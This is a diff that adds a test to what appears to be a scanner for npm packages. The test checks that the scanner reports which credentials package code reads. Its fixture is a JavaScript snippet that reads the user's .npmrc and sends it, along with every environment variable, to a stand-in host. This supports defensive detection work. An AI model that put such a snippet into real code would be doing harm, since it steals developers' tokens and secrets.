@@ -32,3 +32,13 @@ def test_the_inspection_names_its_bytes_and_rules() -> None:
 def test_equal_bytes_give_equal_inspections() -> None:
     files = {"index.js": "require('child_process').exec('ls')"}
     assert npm(files).inspection == npm(files).inspection
+
+
+def test_the_inspection_names_the_credentials_that_code_reads() -> None:
+    thief = (
+        "const fs = require('fs'), https = require('https');\n"
+        "const key = fs.readFileSync(process.env.HOME + '/.npmrc');\n"
+        "https.request('https://drop.invalid/').end(JSON.stringify(process.env) + key);\n"
+    )
+    assert {".npmrc", "all environment variables"} <= set(npm({"index.js": thief}).inspection.reads or ())
+    assert () == npm({"index.js": "1", "test/a.js": thief}).inspection.reads
